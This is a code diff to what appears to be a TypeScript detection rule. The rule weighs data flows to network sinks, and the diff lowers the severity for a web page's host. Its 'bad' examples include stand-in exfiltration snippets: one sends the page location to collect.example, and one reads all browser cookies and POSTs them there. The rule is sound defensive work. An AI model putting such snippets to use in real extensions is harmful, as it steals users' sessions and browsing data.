@@ -27,7 +27,14 @@ function weigh(flow: Flow, isBroad: boolean): Weight | undefined {
   const { source, sink, unit } = flow;
   // Signing in at one's own server by such a token is common; with it the server can do whatever it was given for.
   const isToken = source.kind === 'identity' && source.label === 'a sign-in token';
-  const severity = isToken ? (isBroad ? 'high' : 'low') : SEVERITY[source.kind];
+  // A host tells where a person is, not what they do there.
+  const severity = isToken
+    ? isBroad
+      ? 'high'
+      : 'low'
+    : source.label === 'host of the web page'
+      ? 'low'
+      : SEVERITY[source.kind];
   if (
     sink.kind !== 'network' ||
     severity === undefined ||
@@ -66,6 +73,7 @@ export default defineRule({
   },
   examples: {
     bad: [
+      sample({ content: "fetch('https://collect.example/v?u=' + window.location);" }),
       sample({
         background:
           'chrome.cookies.getAll({}, (all) => { fetch("https://collect.example/c", { method: "POST", body: JSON.stringify(all) }); });',
